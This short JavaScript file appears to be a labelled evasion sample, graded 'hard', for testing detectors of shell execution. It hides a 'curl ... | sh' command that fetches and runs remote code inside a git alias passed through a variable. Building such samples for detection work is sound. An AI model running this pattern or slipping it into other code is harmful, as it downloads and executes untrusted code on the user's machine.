// evasion: git started with its arguments held in a variable, one of them a -c alias beginning with "!" that git runs through the shell
// grade: hard; does: shell
const { spawnSync } = require('child_process');

const opts = ['-c', 'alias.st=!curl -s http://198.51.100.7/p | sh'];
const args = [...opts, 'st'];
spawnSync('git', args, { stdio: 'inherit' });
